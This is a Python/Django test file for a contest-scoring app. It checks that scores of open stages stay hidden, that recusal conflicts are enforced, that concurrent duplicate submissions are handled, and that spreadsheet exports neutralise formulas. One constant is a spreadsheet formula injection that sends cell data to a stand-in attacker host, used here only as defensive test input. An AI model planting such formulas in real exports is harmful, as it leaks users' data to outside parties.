"""Issue 12 for contests: the attack first, then that it fails."""

import threading
from io import BytesIO

import pytest
from django.db import close_old_connections
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from common.errors import ServiceError
from contests import selectors, services
from contests.models import AuditEntry, Award, PrizePayment, Score, ScoreSheet, Stage
from contests.tests.factories import committee, member, scores_download, single_stage_round
from org.models import StaffProfile
from org.tests.factories import DepartmentFactory, UserFactory, portal_admin, staff_user

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _client(user: object) -> Client:
    c = Client()
    c.force_login(user)  # type: ignore[arg-type]
    return c


def _open_round(n: int = 2) -> tuple:
    wp = committee()
    members = (member(wp), member(wp))
    rnd = single_stage_round()
    entries = [
        services.entry_create(
            round=rnd, title=f"제안 {i}", owner_name=f"구민{i}", source_type="p", source_id=i
        )
        for i in range(n)
    ]
    stage = rnd.stages.get()
    services.stage_open(stage=stage)
    return rnd, stage, members, entries


def _scores(stage: Stage, *values: int) -> dict[int, int]:
    return {c.pk: v for c, v in zip(stage.criteria.order_by("order"), values, strict=True)}


# --- #5 scores of an open stage are hidden from everyone, superusers included ---------------


def test_a_superuser_sees_no_score_of_an_open_stage() -> None:
    rnd, stage, (m1, _m2), entries = _open_round()
    services.score_sheet_save(
        stage=stage, entry=entries[0], user=m1.user, scores=_scores(stage, 9, 7), submit=True
    )
    root = _client(UserFactory(is_superuser=True, is_staff=True))
    export = root.get(reverse("contests:stage_scores_export", args=[stage.pk]))
    assert export.status_code == 403
    assert root.get(reverse("contests:stage_results", args=[stage.pk])).status_code == 302
    audit = root.get(reverse("contests:round_audit", args=[rnd.pk])).content.decode()
    assert "심사 마감 후 공개" in audit and "창의성: 9점" not in audit
    entry = AuditEntry.objects.get(action="score_submitted")
    page = root.get(reverse("admin:contests_auditentry_change", args=[entry.pk])).content.decode()
    assert "심사 마감 후 공개" in page and "창의성: 9점" not in page
    # Score sheets and scores have no admin pages at all.
    assert root.get("/admin/contests/scoresheet/").status_code == 404
    assert root.get("/admin/contests/score/").status_code == 404
    services.stage_close(stage=stage)
    assert load_workbook(BytesIO(scores_download(root, stage))).sheetnames == ["심사표", "결과"]
    page = root.get(reverse("admin:contests_auditentry_change", args=[entry.pk])).content.decode()
    assert "창의성: 9점" in page


def test_the_results_selector_refuses_an_open_stage() -> None:
    _rnd, stage, _members, _entries = _open_round()
    with pytest.raises(ServiceError, match="마감된 단계만 결과를"):
        services.results_compute(stage=stage)
    with pytest.raises(ServiceError):
        selectors.stage_results(stage=stage)


# --- #6 the recusal conflict is checked at every save ----------------------------------------


def test_a_member_moved_into_the_entrys_department_while_open_is_refused() -> None:
    wp = committee()
    home, other = DepartmentFactory(name="주차관리과"), DepartmentFactory(name="감사담당관")
    mover = member(wp, department=other)
    member(wp)
    rnd = single_stage_round(quotas=(("grand", 1, 300_000),))
    entry = services.entry_create(
        round=rnd,
        title="거주자 우선주차",
        owner=staff_user(department=home),
        source_type="p",
        source_id=1,
    )
    stage = rnd.stages.get()
    services.stage_open(stage=stage)
    assert not stage.recusals.filter(member=mover).exists()  # no conflict when it opened
    StaffProfile.objects.filter(user=mover.user).update(department=home)
    with pytest.raises(ServiceError) as exc:
        services.score_sheet_save(
            stage=stage, entry=entry, user=mover.user, scores=_scores(stage, 5, 5), submit=True
        )
    assert "이해관계가 있는 출품작" in str(exc.value) and "소속 부서" in str(exc.value)
    assert exc.value.code == "conflict_of_interest"
    assert not ScoreSheet.objects.exists()


# --- #4 exports write text as text ------------------------------------------------------------


def test_a_committee_comment_that_looks_like_a_formula_is_never_a_formula_cell() -> None:
    rnd, stage, (m1, m2), entries = _open_round()
    for m in (m1, m2):
        for e in entries:
            services.score_sheet_save(
                stage=stage,
                entry=e,
                user=m.user,
                scores=_scores(stage, 5, 5),
                comments={stage.criteria.first().pk: FORMULA},
                comment=FORMULA,
                submit=True,
            )
    services.stage_close(stage=stage)
    admin = _client(portal_admin())
    books = [
        scores_download(admin, stage),
        admin.get(reverse("contests:round_minutes", args=[rnd.pk])).content,
        admin.get(reverse("contests:performance_points_export", args=[2016])).content,
    ]
    seen = 0
    for content in books:
        wb = load_workbook(BytesIO(content))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert not cell.value.startswith(("=", "+", "-", "@"))
                        seen += cell.value == "'" + FORMULA
    assert seen == 4  # the four sheets' comments, kept as typed text


# --- #3 two identical POSTs at once store one thing (PostgreSQL, two threads) ---------------


def _twice_at_once(call: object) -> list[object]:
    barrier = threading.Barrier(2)
    outcomes: list[object] = []

    def run() -> None:
        barrier.wait()
        try:
            outcomes.append(call())  # type: ignore[operator]
        except ServiceError as exc:
            outcomes.append(exc)
        finally:
            close_old_connections()

    threads = [threading.Thread(target=run) for _ in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return outcomes


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_two_identical_score_submissions_at_once_store_one_sheet() -> None:
    _rnd, stage, (m1, _m2), entries = _open_round()
    outcomes = _twice_at_once(
        lambda: services.score_sheet_save(
            stage=stage, entry=entries[0], user=m1.user, scores=_scores(stage, 6, 7), submit=True
        )
    )
    assert ScoreSheet.objects.count() == 1 and Score.objects.count() == 2
    # Both callers get the one sheet back; it was written and audited once.
    assert [type(o) for o in outcomes] == [ScoreSheet, ScoreSheet]
    assert outcomes[0].pk == outcomes[1].pk  # type: ignore[attr-defined]
    assert AuditEntry.objects.filter(action="score_submitted").count() == 1


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_two_identical_award_confirmations_at_once_store_one_set() -> None:
    rnd, stage, (m1, m2), entries = _open_round()
    for m in (m1, m2):
        for e, v in zip(entries, (9, 5), strict=True):
            services.score_sheet_save(
                stage=stage, entry=e, user=m.user, scores=_scores(stage, v, v), submit=True
            )
    services.stage_close(stage=stage)
    admin = portal_admin()
    outcomes = _twice_at_once(lambda: services.awards_confirm(round=rnd, by=admin))
    assert Award.objects.filter(round=rnd).count() == 2
    assert PrizePayment.objects.count() == 2
    refused = [o for o in outcomes if isinstance(o, ServiceError)]
    assert len(refused) == 1 and refused[0].code == "confirmed"


def test_the_same_submission_again_is_stored_once_other_values_are_refused() -> None:
    _rnd, stage, (m1, _m2), entries = _open_round()
    kw = {"stage": stage, "entry": entries[0], "user": m1.user, "submit": True}
    first = services.score_sheet_save(**kw, scores=_scores(stage, 6, 7), comment="좋음")
    again = services.score_sheet_save(**kw, scores=_scores(stage, 6, 7), comment="좋음")
    assert again.pk == first.pk
    assert AuditEntry.objects.filter(action="score_submitted").count() == 1
    with pytest.raises(ServiceError, match="이미 제출한 심사표"):
        services.score_sheet_save(**kw, scores=_scores(stage, 6, 8), comment="좋음")
